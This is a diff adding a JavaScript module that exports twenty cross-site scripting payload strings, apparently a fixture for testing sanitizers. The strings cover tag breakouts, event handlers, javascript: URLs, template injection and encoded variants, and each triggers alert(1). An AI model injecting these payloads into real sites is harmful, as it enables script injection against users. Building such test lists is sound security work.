@@ -1,0 +1,23 @@
+/** Twenty ways to make a browser do something. */
+export const XSS = [
+	'<img src=x onerror=alert(1)>',
+	'<script>alert(1)</script>',
+	'</script><script>alert(1)</script>',
+	'"><svg onload=alert(1)>',
+	"'><svg/onload=alert(1)>",
+	'<svg><animate onbegin=alert(1) attributeName=x>',
+	'<body onload=alert(1)>',
+	'<iframe srcdoc="<script>alert(1)</script>">',
+	'<a href="javascript:alert(1)">x</a>',
+	'javascript:alert(1)',
+	'<details open ontoggle=alert(1)>',
+	'<math><mi xlink:href="javascript:alert(1)">',
+	'<input autofocus onfocus=alert(1)>',
+	'{{constructor.constructor("alert(1)")()}}',
+	'${alert(1)}',
+	'<!--<img src="--><img src=x onerror=alert(1)//">',
+	'<style>@import"javascript:alert(1)"</style>',
+	'&lt;img src=x onerror=alert(1)&gt;',
+	'%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
+	'<marquee onstart=alert(1)>"\'`\\</marquee>',
+];
